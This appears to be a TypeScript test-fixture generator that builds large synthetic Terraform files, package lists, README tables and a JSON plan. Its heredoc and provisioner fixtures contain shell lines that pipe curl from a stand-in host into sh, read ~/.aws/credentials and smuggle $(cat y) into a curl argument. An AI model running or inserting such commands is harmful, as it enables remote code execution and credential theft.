import { type Family, files, fill, filled, type Texts, text, times } from "./fill.ts";

/** Scripts in Terraform, blocks other than resources, and files that are not quite Terraform. */
export const OTHER_TEXTS: Readonly<Record<string, Family>> = {
  "lists of packages": (bytes) => ({
    "main.tf": 'output "a" {\n  value = 1\n}\n',
    "requirements.txt": fill(bytes / 3, () => "a\n"),
    ".npmrc": `registry=${" ".repeat(bytes / 3)}http\n`,
    "package.json": `{"dependencies":{${fill(bytes / 3 - 30, (n) => `"p${n}":"*",`)}"a":"*"}}`,
  }),
  heredocs: filled(
    "main.tf",
    (n) =>
      `resource "aws_instance" "i${n}" {\n  user_data = <<-EOT\n    #!/bin/bash\n${times(10, (m) => `    echo "\${var.a}" && curl https://x.test/${m} | sh\n`)}  EOT\n}\n`,
    'variable "a" {}\n',
  ),
  "one heredoc": filled(
    "main.tf",
    (n) => `    echo \${var.a} ${n} | sudo bash -c "curl x$(cat y)" && export A${n}=$(aws x)\n`,
    'variable "a" {}\nresource "null_resource" "i" {\n  provisioner "local-exec" {\n    command = <<-EOT\n',
    "    EOT\n  }\n}\n",
  ),
  provisioners: filled(
    "main.tf",
    (n) =>
      `resource "null_resource" "i${n}" {\n  provisioner "local-exec" {\n    command = "curl https://x.test/${n} | sh && cat ~/.aws/credentials"\n  }\n}\n`,
  ),
  "moved blocks": filled(
    "main.tf",
    (n) => `moved {\n  from = aws_s3_bucket.a${n}\n  to = aws_s3_bucket.a${n + 1}\n}\n`,
  ),
  "providers and requirements": filled(
    "main.tf",
    (n) =>
      `provider "aws" {\n  alias = "a${n}"\n  region = "r"\n}\nterraform {\n  required_providers {\n    p${n} = {\n      source = "a/p${n}"\n    }\n  }\n}\n`,
  ),
  "syntax errors": filled("main.tf", (n) => `resource "a" { = ${n} ]\n`),
  "strings without an end": filled("main.tf", () => '"${"${'),
  "a README of tables": (bytes) => ({
    "README.md": `# Usage\n\n${fill(bytes - 200, (n) => `| [v${n}](#v${n}) | a | \`string\` | \`"x"\` | no |\n`)}`,
    "main.tf": 'variable "v1" {\n  default = "x"\n}\n',
  }),
  "tests by the hundred": files(
    (n) => `tests/t${n}.tftest.hcl`,
    (n) => `run "a${n}" {\n  command = plan\n  variables {\n    a = "${text(n, 100)}"\n  }\n}\n`,
  ),
  "A plan of resources": (bytes) => plan(bytes),
};

/** A plan of Terraform, as `terraform show -json` writes it. */
function plan(bytes: number): Texts {
  const one = (n: number) => ({
    address: `module.m[${n}].aws_db_instance.d`,
    mode: "managed",
    type: "aws_db_instance",
    name: "d",
    values: { publicly_accessible: true, name: text(n, 60), tags: { a: "b" } },
    sensitive_values: { password: true },
  });
  const change = (n: number) => ({
    address: `module.m[${n}].aws_db_instance.d`,
    change: {
      actions: ["create"],
      before: null,
      after: one(n).values,
      after_unknown: { id: true },
    },
  });
  const length = JSON.stringify(one(1_000)).length + JSON.stringify(change(1_000)).length + 60;
  const indexes = Array.from({ length: Math.floor(bytes / length) }, (_, n) => n);
  const child_modules = indexes.map((n) => ({ address: `module.m[${n}]`, resources: [one(n)] }));
  return {
    "plan.json": JSON.stringify({
      format_version: "1.2",
      planned_values: { root_module: { child_modules } },
      resource_changes: indexes.map(change),
      configuration: {
        root_module: { module_calls: { m: { module: { resources: [] } } } },
      },
    }),
  };
}
